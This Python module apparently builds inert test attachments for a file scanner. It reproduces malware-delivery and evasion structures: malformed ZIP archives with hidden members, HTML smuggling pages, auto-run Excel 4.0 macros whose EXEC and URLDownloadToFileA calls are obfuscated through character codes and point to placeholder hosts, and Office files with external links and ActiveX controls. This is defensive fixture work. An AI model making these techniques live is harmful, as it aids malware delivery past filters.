# SPDX-License-Identifier: Apache-2.0
"""wavefiles - attachments for tools/make-waves: inert scripts, links, pages, archives with the
faults that evaders make, and documents with fields and relationships.

Scripts are comments; programs are two letters and words; commands name programs that do not
exist. What is left of each technique is the structure that a reader of files sees.
"""
import base64
import gzip
import io
import struct
import zipfile
import zlib

import cfbwrite
import office97
import officecrypt
import oforms
import ooxml
import shell
import zipcrypt

NOTE = 'inert sample, built by tools/make-waves; it does nothing'
NOTHING = 'example-command-that-does-not-exist'

JS = ('// %s\r\nvar note = "%s";\r\n' % (NOTE, NOTE)).encode()
VBS = ("' %s\r\nnote = \"%s\"\r\n" % (NOTE, NOTE)).encode()
HTA = ('<html><head><hta:application id="example"></head><body><!-- %s --></body></html>\r\n' % NOTE).encode()
# The fields of a DOS header up to its 64th byte, words in place of the reserved ones: what it
# points to, PE header and code, is not there.
PROGRAM = (bytes.fromhex('4d5a90000300000004000000ffff0000b800000000000000') + b'inert sample; no program in it').ljust(60, b'\0') + bytes([64, 0, 0, 0])

# The same with the signature of a PE header where it points to, and nothing behind.
HEADED = PROGRAM + b'PE\0\0'

PICTURE = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')


def link(arguments='/example'):
    return shell.link('%windir%\\' + NOTHING + '.exe', arguments, NOTE)


# --- archives

def flat(members):
    return zipcrypt.write([zipcrypt.Member(n, d) for n, d in members])


def packed(data):
    return gzip.compress(data, mtime=0)


def two_archives(first, second):
    return flat(first) + flat(second)


def other_name(shown, local, data):
    """The directory says one name, the member's own header another of the same length."""
    assert len(shown) == len(local)
    whole = flat([(shown, data)])
    return whole.replace(shown.encode(), local.encode(), 1)


def fake_encryption(whole):
    """Sets bit 0 of the flags of the first member in the directory only."""
    at = whole.index(b'PK\1\2') + 8
    return whole[:at] + bytes([whole[at] | 1]) + whole[at + 1:]


def unlisted(shown, hidden):
    """A member that the directory does not list, in front of one that it does."""
    name, data = hidden
    packed = zipcrypt.deflate(data)
    head = struct.pack('<4sHHHHHIIIHH', b'PK\3\4', 20, 0, 8, 0, 0, zlib.crc32(data), len(packed), len(data), len(name), 0)
    piece = head + name.encode() + packed
    whole = bytearray(piece + flat([shown]))
    at = whole.index(b'PK\1\2')
    struct.pack_into('<I', whole, at + 42, len(piece))                     # offset of the listed member
    end = whole.index(b'PK\5\6')
    struct.pack_into('<I', whole, end + 16, at)                            # offset of the directory
    return bytes(whole)


def add_member(whole, name, data):
    """Appends a member to an archive."""
    out = io.BytesIO(whole)
    with zipfile.ZipFile(out, 'a', zipfile.ZIP_STORED) as z:
        z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


# --- pages

def words(n):
    """n bytes of harmless text"""
    return ((NOTE + '\n') * (n // len(NOTE) + 1))[:n].encode()


def smuggling(name='example.txt', before='', code='', data=None):
    """Builds a text file of harmless words in the browser."""
    return ('<!DOCTYPE html><html><!-- %s --><body>%s<script>\n%svar d = "%s";\nvar s = atob(d), b = new Uint8Array(s.length);\n'
            'for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i);\nvar a = document.createElement("a");\n'
            'a.href = URL.createObjectURL(new Blob([b])); a.download = "%s";\n</script></body></html>\n' %
            (NOTE, before, code, base64.b64encode(data or words(40000)).decode(), name)).encode()


def table_page(n=40):
    """A report with a button that saves its own table as CSV."""
    rows = ''.join('<tr><td>%d</td><td>%d</td></tr>' % (i, i * 37 % 101) for i in range(n))
    return ('<!DOCTYPE html><html><!-- %s --><body><table id="t">%s</table><button onclick="save()">CSV</button><script>\n'
            'function save() { var out = []; document.querySelectorAll("tr").forEach(function (r) { out.push(r.innerText); });\n'
            'var a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([out.join("\\n")])); a.download = "table.csv";\n'
            'a.click(); }\n</script></body></html>\n' % (NOTE, rows)).encode()


def functions(n):
    return ''.join('function f%d(a, b) { return a * %d + b * %d + (a > b ? f%d(b, a) : 1); }\n' % (i, i * 37 % 101, i * 53 % 97, i // 2) for i in range(n))


def padding(n):
    """Text, comments of the page and of the script, and short strings: n bytes of each."""
    note = words(n).decode()
    return '<p>%s</p><!-- %s --><script>/* %s */ var s = [%s];</script>' % (note, note, note, ', '.join('"%s"' % NOTE for _ in range(n // len(NOTE))))


def export_page():
    """A table that saves itself as PDF: the fonts and the program for it lie in the page."""
    code = functions(1200)
    return ('<!DOCTYPE html><html><!-- %s --><body><table id="t"><tr><td>1</td></tr></table><button onclick="save()">PDF</button><script>\n'
            '%svar font = "%s";\nfunction save() { var s = atob(font), b = new Uint8Array(s.length), a = document.createElement("a");\n'
            'for (var i = 0; i < s.length; i++) b[i] = s.charCodeAt(i);\na.href = URL.createObjectURL(new Blob([b])); a.download = "table.pdf"; a.click(); }\n'
            '</script></body></html>\n' % (NOTE, code, base64.b64encode(words(24000)).decode())).encode()


def chart_page():
    """A chart with its font in the page and a button that saves the picture."""
    return ('<!DOCTYPE html><html><!-- %s --><body><canvas id="c"></canvas><button onclick="save()">PNG</button><script>\n'
            'var font = "%s";\nfunction save() { document.getElementById("c").toBlob(function (b) { var a = document.createElement("a");\n'
            'a.href = URL.createObjectURL(b); a.download = "chart.png"; a.click(); }); }\nvar points = new Uint8Array([3, 1, 4, 1, 5]);\n'
            '</script></body></html>\n' % (NOTE, base64.b64encode(words(9000)).decode())).encode()


def form_page(action):
    return ('<!DOCTYPE html><html><!-- %s --><body><form method="post" action="%s"><input name="user">'
            '<input type="password" name="word"><button>OK</button></form></body></html>\n' % (NOTE, action)).encode()


def refresh_page(target):
    return ('<!DOCTYPE html><html><!-- %s --><head><meta http-equiv="refresh" content="0; url=%s"></head></html>\n' %
            (NOTE, target)).encode()


# --- drawings

SVG = 'xmlns="http://www.w3.org/2000/svg"'


def drawing(inside, root='', n=0, before=''):
    """n boxes, and what else is inside"""
    boxes = ''.join('<rect x="%d" y="%d" width="9" height="9"/>' % (i % 20 * 10, i // 20 * 10) for i in range(n))
    return ('<?xml version="1.0" encoding="UTF-8"?>\n%s<svg %s %s>\n<!-- %s -->%s%s</svg>\n' % (before, SVG, root, NOTE, boxes, inside)).encode()


def flame_graph():
    """Boxes that zoom when they are clicked; which one stands in the page's own address."""
    return drawing('<script><![CDATA[function init(e) { var p = window.location.search.substr(1).split("&");\n'
                   'svg = e.target; if (p.length) zoom(decodeURIComponent(p[0])); history.replaceState(null, null, "?" + p); }\n'
                   'function zoom(n) { svg.getElementById(n); }]]></script>', 'onload="init(evt)"', 300)


# --- tables in text

def table(*rows):
    return ('日付,品名,数量\r\n2026-11-20,ボルト,200\r\n' + ''.join(r + '\r\n' for r in rows)).encode('cp932')


def sylk(*records):
    return ('ID;PSEKISHO\r\nC;Y1;X1;K"%s"\r\n%sE\r\n' % (NOTE, ''.join(r + '\r\n' for r in records))).encode()


# --- documents

def paragraph(text):
    return '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % ooxml.escape(text)


def field(code):
    def mark(kind):
        return '<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind
    half = len(code) // 2
    codes = ''.join('<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % ooxml.escape(c) for c in (code[:half], code[half:]))
    return '<w:p>' + mark('begin') + codes + mark('separate') + '<w:r><w:t>%s</w:t></w:r>' % NOTE + mark('end') + '</w:p>'


def docx(body, outside=(), template=None, author='総務部'):
    """outside: [(kind, target)] relationships of the text; template: target of the attached one"""
    text = ooxml.HEAD + '<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (ooxml.WORD, body)
    rows = [('rId%d' % (i + 1), '%s/%s' % (ooxml.OFFICE, kind), target, True) for i, (kind, target) in enumerate(outside)]
    parts = [('word/document.xml', text, None), ('word/_rels/document.xml.rels', ooxml.relations(rows), None)]
    if template:
        parts += [('word/settings.xml', ooxml.HEAD + '<w:settings xmlns:w="%s"/>' % ooxml.WORD, None),
                  ('word/_rels/settings.xml.rels', ooxml.relations([('rId1', ooxml.OFFICE + '/attachedTemplate', template, True)]), None)]
    kind = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
    return ooxml._document('word/document.xml', kind, parts, author, 'Microsoft Office Word', None)


LETTER = paragraph('お世話になっております。見積書をお送りします。ご確認のほどよろしくお願いいたします。') + paragraph(NOTE)


def macro_sheet(words_shown=('請求書',), auto=True, hidden=False):
    """An Excel 4.0 sheet whose formulas show a message and stop."""
    f = office97
    cells = {(0, 0): f.Formula(f.call(f.F_ALERT, f.string('inert sample')), 0.0), (1, 0): f.Formula(f.call(f.F_HALT), 0.0)}
    shown = {(i, 0): text for i, text in enumerate(words_shown)}
    shown[(len(shown), 0)] = NOTE
    sheets = [f.Sheet('Sheet1', shown), f.Sheet('Macro1', cells, f.MACROSHEET, f.VERY_HIDDEN if hidden else f.VISIBLE)]
    names = [f.defined_name(1, f.ref3d(1, 0, 0), macro=True)] if auto else []
    return f.excel(sheets, names)


# --- Excel 4.0 macros: the commands name nothing that exists

def _xlm(cells, auto=True, state=None, names=(), vba=None, hidden_name=False, password=None):
    f = office97
    sheets = [f.Sheet('Sheet1', {(0, 0): '請求書', (1, 0): NOTE}),
              f.Sheet('Macro1', cells, f.MACROSHEET, f.VISIBLE if state is None else state)]
    start = [f.defined_name(1, f.ref3d(1, 0, 0), hidden=hidden_name, macro=True)] if auto else []
    return f.excel(sheets, start + list(names), vba=vba, password=password)


def _column(*tokens):
    return {(i, 0): office97.Formula(t, 0.0) for i, t in enumerate(tokens)}


def xlm_exec(password=None):
    f = office97
    return _xlm(_column(f.call(f.F_EXEC, f.string(NOTHING)), f.call(f.F_HALT)), password=password)


def xlm_greeting(password):
    f = office97
    return _xlm(_column(f.call(f.F_ALERT, f.string('inert sample')), f.call(f.F_HALT)), password=password)


def xls_protected():
    """A book whose structure is protected: Excel 97 to 2003 encrypts it with the password of its own."""
    return office97.excel([office97.Sheet('Sheet1', {(0, 0): '座席表', (1, 0): NOTE})], password=officecrypt.BUILTIN)


def docm_variable(value, vba):
    """A document with a variable ([ECMA-376] 17.15.1.31), which only macros see."""
    text = ooxml.HEAD + '<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (ooxml.WORD, LETTER)
    settings = ooxml.HEAD + '<w:settings xmlns:w="%s"><w:docVars><w:docVar w:name="v1" w:val="%s"/></w:docVars></w:settings>' % (
        ooxml.WORD, ooxml.escape(value))
    rows = [('rId1', ooxml.VBA_RELATION, 'vbaProject.bin', False), ('rId2', ooxml.OFFICE + '/settings', 'settings.xml', False)]
    parts = [('word/document.xml', text, None), ('word/_rels/document.xml.rels', ooxml.relations(rows), None), ('word/settings.xml', settings, None)]
    kind = 'application/vnd.ms-word.document.macroEnabled.main+xml'
    return ooxml._document('word/document.xml', kind, parts, '総務部', 'Microsoft Office Word', vba)


def docx_control(name, xml, data=None):
    """A document with one ActiveX control: its properties in XML, or its bytes beside."""
    text = ooxml.HEAD + '<w:document xmlns:w="%s" xmlns:r="%s"><w:body>%s<w:p><w:r><w:object><w:control r:id="rId2" w:name="%s"/></w:object></w:r></w:p></w:body></w:document>' % (
        ooxml.WORD, ooxml.OFFICE, LETTER, name)
    rows = [('rId2', ooxml.OFFICE + '/control', 'activeX/activeX1.xml', False)]
    control = ooxml.HEAD + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="%s" %s</ax:ocx>' % (ooxml.OFFICE, xml)
    parts = [('word/document.xml', text, None), ('word/_rels/document.xml.rels', ooxml.relations(rows), None),
             ('word/activeX/activeX1.xml', control, 'application/vnd.ms-office.activeX+xml')]
    if data is not None:
        parts += [('word/activeX/_rels/activeX1.xml.rels', ooxml.relations([(
            'rId1', 'http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary', 'activeX1.bin', False)]), None),
            ('word/activeX/activeX1.bin', data, 'application/vnd.ms-office.activeX')]
    kind = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
    return ooxml._document('word/document.xml', kind, parts, '総務部', 'Microsoft Office Word', None)


FLASH = 'ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}" '


def docx_movie():
    """The head of a movie and nothing behind it that a player could show."""
    data = oforms.CLSID['Flash'] + b'fUfU' + (24).to_bytes(4, 'little') + b'FWS\x0a' + (24).to_bytes(4, 'little') + bytes(16)
    return docx_control('Player1', FLASH + 'ax:persistence="persistStreamInit" r:id="rId1">', data)


def docx_movie_fetched():
    return docx_control('Player1', FLASH + 'ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Movie" ax:value="http://example.invalid/a.swf"/>')


def docx_box():
    """An entry field, as forms have it."""
    data = oforms.CLSID['TextBox'] + oforms.control('TextBox', 'お名前をご記入ください')
    return docx_control('TextBox1', 'ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStreamInit" r:id="rId1">', data)


def docx_locked(password):
    return cfbwrite.write(officecrypt.agile(ooxml.word(['議事録', NOTE]), password))


def xlm_command():
    """The command is joined from cells and character codes."""
    f = office97
    cells = _column(f.call(f.F_EXEC, f.ref(4, 1) + f.ref(5, 1) + f.CONCAT + f.string('32 /s ..\\%s' % NOTHING) + f.CONCAT), f.call(f.F_HALT))
    cells[(4, 1)] = f.Formula(f.call(f.F_CHAR, f.integer(57) + f.integer(57) + b'\x03', fixed=True), 0.0)
    cells[(5, 1)] = 'egsvr'
    return _xlm(cells)


def xlm_download():
    """Registered, and started by nothing."""
    f = office97
    return _xlm(_column(f.call(f.F_REGISTER, f.string('url') + f.string('mon') + f.CONCAT, f.string('URLDown') + f.string('loadToFileA') + f.CONCAT,
                               f.string('JJCCJJ'), f.string('Example')), f.call(f.F_HALT)), auto=False)


def xlm_effect_download(auto=True):
    """The names of library and function are computed, digit by digit, by what only evaluation sees."""
    f = office97
    fetch = ''.join(reversed('AeliFoTdaolnwoDLRU'))
    letters = [f.call(f.F_CHAR, f.integer(ord(c) + 5) + f.integer(5) + b'\x04', fixed=True) for c in fetch]
    name = letters[0] + b''.join(c + f.CONCAT for c in letters[1:])
    cells = _column(f.call(f.F_CALL, f.string('urlmon'), f.ref(4, 1), f.string('JJCCJJ'), f.integer(0), f.string('http://example.invalid/inert.txt'),
                           f.string('..\\inert.txt'), f.integer(0), f.integer(0)), f.call(f.F_HALT))
    cells[(4, 1)] = f.Formula(name, 0.0)
    return _xlm(cells, auto=auto)


def xlm_register_beep():
    """A sound of the system, by hand."""
    f = office97
    return _xlm(_column(f.call(f.F_REGISTER, f.string('user32'), f.string('MessageBeep'), f.string('JJ'), f.string('Beep')), f.call(f.F_HALT)), auto=False)


def xlm_self_writing():
    f = office97
    pieces = [f.call(f.F_CHAR, f.ref(20, i) + f.ref(21, i) + b'\x05', fixed=True) for i in range(14)]
    text = pieces[0] + b''.join(p + f.CONCAT for p in pieces[1:])
    cells = _column(f.call(f.F_FORMULA_FILL, text, f.ref(9, 9)), f.call(f.F_RUN, f.ref(9, 9)), f.call(f.F_HALT))
    return _xlm(cells, state=f.VERY_HIDDEN, hidden_name=True)


def xlm_computed():
    f = office97
    return _xlm(_column(f.call(f.F_EXEC, f.call(f.F_GET_WORKSPACE, f.integer(26), fixed=True)), f.call(f.F_HALT)))


def xlm_environment(number=19, auto=True):
    f = office97
    return _xlm(_column(f.call(f.F_GET_WORKSPACE, f.integer(number), fixed=True), f.call(f.F_ALERT, f.string('inert sample')), f.call(f.F_HALT)), auto)


def xlm_file(auto=True):
    f = office97
    return _xlm(_column(f.call(f.F_FOPEN, f.string('example.txt'), f.integer(3)), f.call(f.F_FWRITELN, f.ref(0, 0), f.string(NOTE), fixed=True), f.call(f.F_HALT)), auto)


def xlm_by_vba(vba):
    f = office97
    return _xlm(_column(f.call(f.F_EXEC, f.string(NOTHING)), f.call(f.F_HALT)), auto=False, vba=vba)


def name_text(name, text):
    return office97.excel([office97.Sheet('Sheet1', {(0, 0): '請求書', (1, 0): NOTE})], [office97.defined_name(name, office97.string(text))])
